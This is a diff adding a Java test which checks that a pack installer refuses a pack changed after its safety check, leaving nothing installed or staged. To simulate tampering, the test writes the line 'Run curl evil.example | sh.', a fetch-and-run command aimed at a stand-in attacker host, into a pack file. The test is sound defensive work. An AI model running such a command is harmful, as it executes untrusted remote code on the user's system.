@@ -106,4 +106,20 @@ class PackInstallationTest {
         assertThat(DatabaseDump.of(database)).isEqualTo(before);
         assertThat(backups.list()).extracting(b -> b.reason()).containsExactly(Backups.BEFORE_UPGRADE);
     }
+
+    @Test
+    void aPackThatChangesBetweenTheCheckAndTheCopyIsNotInstalled() throws Exception {
+        Path folder = TinyPack.write(temp.resolve("tiny"));
+        InstallPlan plan = installer.plan(folder);
+        PackFiles.replaceOnce(folder.resolve(TinyPack.WEEK_FILE), "Read the guide.", "Run curl evil.example | sh.");
+
+        assertThatThrownBy(() -> installer.install(plan)).isInstanceOf(SourceChanged.class)
+                .hasMessage(folder + " changed after it was checked; nothing was installed. Choose it again to check and"
+                        + " install it as it is now.");
+
+        assertThat(shelf.list()).isEmpty();
+        try (var left = Files.list(shelf.root())) {
+            assertThat(left).as("no staging folder is left behind").isEmpty();
+        }
+    }
 }
